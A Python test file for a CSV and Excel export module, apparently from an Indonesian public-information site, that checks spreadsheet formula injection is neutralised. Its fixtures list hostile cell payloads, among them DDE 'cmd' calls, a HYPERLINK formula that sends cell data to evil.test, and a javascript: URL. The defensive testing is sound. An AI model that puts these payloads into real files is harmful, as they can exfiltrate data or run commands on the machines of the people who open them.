"""What a citizen opens in a spreadsheet program does nothing but be read."""

import csv
import datetime
import io
import re
import zipfile

import pytest
from hypothesis import given, settings, strategies
from lxml import etree
from openpyxl import load_workbook

from kip_pages.formats.csv_table import BYTE_ORDER_MARK, csv_text, harmless
from kip_pages.formats.text import web_address, xml_text
from kip_pages.formats.workbook import CELL_CHARACTERS, workbook

DANGEROUS = [
    '=HYPERLINK("https://evil.test?"&A1,"Klik")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62 254 200123",
    "+6281234567890",
    "-2+3+cmd|' /C calc'!A0",
    "- Renstra dan Renja",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1+cmd|' /C calc'!A0",
    "＠SUM(1)",
]
# In a program that splits at another separator than ours, a cell begins inside the text.
DANGEROUS_INSIDE = {
    "x;={1,2}+cmd|' /C calc'!A0;y": "x;'={1,2}+cmd|' /C calc'!A0;y",
    "x;=A1&\"+cmd|' /C calc'!A0\";y": "x;'=A1&\"'+cmd|' /C calc'!A0\";y",
    "x; ='\\\\evil.test\\s\\[b.xls]L'!A1": "x; '='\\\\evil.test\\s\\[b.xls]L'!A1",
    "x\t@SUM(1)": "x\t'@SUM(1)",
    "x;-A1&": "x;'-A1&",  # the next cell may bring what is called
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    "Rincian:\n- Renstra\n- Renja": "Rincian:\n'- Renstra\n'- Renja",
}
HARMLESS = [
    "",
    "-",
    "--",
    "-5",
    "-1.250,75",
    "-12,5 %",
    "0254-200123",
    "(0254) 200123",
    "Rp5.000,-",
    "Rp5.000,- per lembar (hitam putih); Rp10.000,- (warna)",
    'Diisi "-" jika tidak ada; "-5" jika rugi',
    "Dinas Kesehatan – Bidang P2P",
    "kontak: a@b.test",
    "1+1=2",
    "17/05/2021",
]
REAL_LIFE = [
    *DANGEROUS,
    *DANGEROUS_INSIDE,
    *HARMLESS,
    'kata "kutip", koma; titik koma',
    "baris satu\r\nbaris dua",
    "“tipografis” ⇒ é 漢字 😀",
]


def read_csv(text):
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def open_workbook(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return sheet, [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_begins_like_a_formula_gets_an_apostrophe_and_stays_readable(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_dashes_and_ordinary_text_stay_as_they_are(text):
    assert harmless(text) == text


@pytest.mark.parametrize("separator", [";", ",", "\t", "\n", '"'])
def test_a_call_is_harmless_in_a_program_that_splits_cells_elsewhere(separator):
    cell = f"Laporan{separator}=HYPERLINK(A1)"
    assert harmless(cell) == f"Laporan{separator}'=HYPERLINK(A1)"


@pytest.mark.parametrize("text", DANGEROUS_INSIDE)
def test_what_begins_like_a_formula_after_a_separator_gets_an_apostrophe_too(text):
    assert harmless(text) == DANGEROUS_INSIDE[text]


LIVE = re.compile(r"\s*(?:[=+@＝＋－＠]|-+[^-\d\s,\"]|-+\s+[^\s,\"])")


def assert_nothing_is_live(cell):
    """Read a row that holds ``cell`` as programs do that know of another separator, or of no quotes."""
    text = "".join(csv_text(["No.", "Judul", "Unit"], [[1, cell, "(Sekretariat)"]]))
    for options in (
        {"delimiter": ","},
        {"delimiter": ";"},
        {"delimiter": "\t"},
        {"delimiter": ";", "quoting": csv.QUOTE_NONE},
        {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
    ):
        for row in csv.reader(io.StringIO(text, newline=""), **options):
            live = [value for value in row if LIVE.match(value)]
            assert not live, (options, live)


@pytest.mark.parametrize("cell", REAL_LIFE)
def test_no_text_of_real_life_is_calculated_whatever_a_program_splits_at(cell):
    assert_nothing_is_live(cell)


@given(strategies.text(alphabet=strategies.sampled_from("a5=+-@＝;,\t\r\n\"' |(!")))
@settings(max_examples=200, deadline=None, derandomize=True, database=None)
def test_no_text_at_all_is_calculated_whatever_a_program_splits_at(cell):
    assert_nothing_is_live(cell)


def test_csv_keeps_every_text_of_real_life():
    text = "".join(csv_text(["Judul"], ([value] for value in REAL_LIFE)))
    assert text.startswith(BYTE_ORDER_MARK)
    assert text.encode().startswith(b"\xef\xbb\xbfJudul\r\n")
    assert read_csv(text) == [["Judul"], *([harmless(value)] for value in REAL_LIFE)]


def test_csv_drops_what_readers_choke_on():
    text = "".join(csv_text(["A"], [["sebelum\x00sesudah\x0b"]]))
    assert read_csv(text)[1] == ["sebelumsesudah"]


def test_a_workbook_holds_text_as_it_was_and_no_formula():
    content = b"".join(workbook("Daftar", ["Judul"], ([value] for value in REAL_LIFE)))
    _sheet, rows = open_workbook(content)
    expected = [value.replace("\r\n", "\n").replace("\r", "\n") for value in REAL_LIFE]
    assert [row[0].value or "" for row in rows[1:]] == expected
    assert {row[0].data_type for row in rows if row[0].value} == {"s"}
    quoted = {value for value, row in zip(REAL_LIFE, rows[1:], strict=True) if row[0].quotePrefix}
    assert quoted == {*DANGEROUS, "\t=1+1", "\r=1+1", "\n=1+1"}
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert not etree.fromstring(sheet).findall(".//{*}f")


def test_a_workbook_survives_characters_that_xml_forbids():
    content = b"".join(workbook("Daftar", ["A"], [["a\x00b\x0bc\ufffe"], ["#N/A"]]))
    _sheet, rows = open_workbook(content)
    assert [(row[0].value, row[0].data_type) for row in rows] == [
        *(("A", "s"), ("abc", "s"), ("#N/A", "s")),
    ]


def test_a_workbook_has_dates_where_the_day_is_known_and_text_where_it_is_not():
    moment = datetime.datetime.fromisoformat("2026-11-24T08:00:00+07:00")
    row = [1, datetime.date(2021, 5, 17), "2021-05", "2017/2022", moment, None]
    sheet, rows = open_workbook(b"".join(workbook("Daftar", list("ABCDEF"), [row])))
    assert [cell.value for cell in rows[1]] == [
        1,
        datetime.datetime(2021, 5, 17),  # noqa: DTZ001 - as Excel has it
        "2021-05",
        "2017/2022",
        datetime.datetime(2026, 11, 24, 8),  # noqa: DTZ001
        None,
    ]
    assert rows[1][1].number_format == r"yyyy\-mm\-dd"
    assert sheet.auto_filter.ref == "A1:F2"
    assert sheet.freeze_panes == "C2"
    assert rows[0][0].font.bold


@pytest.mark.parametrize(
    ("received", "usable"),
    [
        ("https://x.test/a.pdf", "https://x.test/a.pdf"),
        ("https://x.test/a b.pdf", "https://x.test/a%20b.pdf"),
        ('https://x.test/"a"<b>', "https://x.test/%22a%22%3Cb%3E"),
        ("https://x.test/é?q=%20#f", "https://x.test/%C3%A9?q=%20#f"),
        (" https://x.test/a\n.pdf", "https://x.test/a.pdf"),
        ("javascript:alert(1)", ""),
        ("/berkas/jalur.pdf", ""),
        ("http://", ""),
        ("http://[x.test/", ""),
        ("http://x.test:99999/", ""),
        ("ada di kantor", ""),
    ],
)
def test_an_address_is_written_as_a_uri_or_is_none(received, usable):
    assert web_address(received) == usable


def test_a_workbook_is_the_same_bytes_for_the_same_rows_and_leaves_in_pieces():
    def made():
        return list(workbook("Daftar", list("AB"), ([n, f"Judul {n}"] for n in range(1000))))

    assert made() == made()
    assert len(made()) > 5


def test_a_workbook_cuts_what_excel_would_refuse():
    content = b"".join(workbook("Daftar", ["A"], [["a" * (CELL_CHARACTERS + 1)]]))
    _sheet, rows = open_workbook(content)
    assert len(rows[1][0].value) == CELL_CHARACTERS


def test_columns_of_a_workbook_beyond_z_have_two_letters():
    sheet, rows = open_workbook(
        b"".join(workbook("D", [f"K{n}" for n in range(30)], [[*range(30)]]))
    )
    assert sheet.dimensions == "A1:AD2"
    assert [cell.value for cell in rows[1]] == [*range(30)]


def test_xml_text_keeps_everything_xml_allows():
    assert xml_text("a\tb\nc 😀\ud7ff\ufffd") == "a\tb\nc 😀\ud7ff\ufffd"
    assert xml_text("a\x00\x08\x1f\ud800\uffff") == "a"
